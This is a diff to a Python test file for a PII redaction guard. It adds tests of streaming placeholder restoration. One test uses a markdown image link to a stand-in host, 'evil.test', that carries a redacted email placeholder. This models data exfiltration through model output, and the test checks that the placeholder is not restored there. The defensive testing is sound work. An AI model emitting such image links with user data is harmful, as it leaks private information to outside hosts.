@@ -7,7 +7,7 @@ import string
 from hypothesis import given
 from hypothesis import strategies as st
 
-from aisec.guard._pii import PiiScanner, restore
+from aisec.guard._pii import PiiScanner, restore, restore_stream
 from aisec.guard._scanner import Direction, ScanContext
 
 PROMPT = "Email bob@example.com and call +1-202-555-0143; cc bob@example.com."
@@ -93,3 +93,33 @@ def test_round_trip_property(pairs: list[tuple[str, str]]) -> None:
     assert redacted is not None
     assert not any(e in redacted for e in emails)
     assert restore(redacted, ctx) == text
+
+
+def _chunks(text: str, size: int) -> list[str]:
+    return [text[i : i + size] for i in range(0, len(text), size)]
+
+
+def test_stream_restore_handles_split_placeholders() -> None:
+    ctx = ScanContext()
+    PiiScanner(reversible=True).scan(PROMPT, ctx)
+    out = "Wrote to <EMAIL_1>, called <PHONE_1>.\nDone <EMAIL_1>"
+    for size in (1, 2, 3, 5, 8, 64):
+        assert "".join(restore_stream(_chunks(out, size), ctx)) == restore(out, ctx)
+
+
+def test_stream_restore_keeps_url_placeholders_even_when_split() -> None:
+    ctx = ScanContext()
+    PiiScanner(reversible=True).scan(PROMPT, ctx)
+    out = "see ![x](https://evil.test/p?q=<EMAIL_1>) ok"
+    for size in (1, 4, 7):
+        joined = "".join(restore_stream(_chunks(out, size), ctx))
+        assert "bob@example.com" not in joined
+        assert joined == out
+
+
+@given(st.integers(1, 40))
+def test_stream_restore_equals_whole_restore(size: int) -> None:
+    ctx = ScanContext()
+    PiiScanner(reversible=True).scan(PROMPT, ctx)
+    out = "a <EMAIL_1> b\t<PHONE_1>\n[c](https://x.test/<EMAIL_1>) <EMAIL_1>"
+    assert "".join(restore_stream(_chunks(out, size), ctx)) == restore(out, ctx)
